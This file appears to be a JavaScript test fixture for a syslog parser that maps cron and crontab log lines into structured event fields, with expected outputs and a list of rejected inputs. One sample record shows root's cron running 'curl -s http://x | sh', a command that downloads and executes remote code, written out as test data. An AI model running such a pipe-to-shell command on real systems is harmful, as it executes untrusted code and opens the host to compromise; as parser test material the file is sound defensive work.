export default {
  maps: [
    { record: 'Mar  4 05:06:07 web-1 CRON[9]: (root) CMD (curl -s http://x | sh)', expect: { class_uid: 1006, activity_id: 6, job: { name: 'curl -s http://x | sh', cmd_line: 'curl -s http://x | sh', user: { name: 'root' } }, device: { hostname: 'web-1' }, unmapped: { command: 'curl -s http://x | sh' } } },
    { record: '<77>1 2026-03-04T05:06:07Z web-1 crontab 9 - - (mira) REPLACE (root)', expect: { activity_id: 2, job: { name: 'crontab of root', user: { name: 'root' } }, actor: { user: { name: 'mira' } } } },
    { record: 'Mar  4 05:06:07 web-1 crontab[9]: (mira) LIST (mira)', expect: { activity_id: 99, activity_name: 'LIST' } },
  ],
  rejects: [null, {}, '', 'Mar  4 05:06:07 web-1 app[9]: (root) CMD (x)', 'Mar  4 05:06:07 web-1 cron[9]: started'],
};
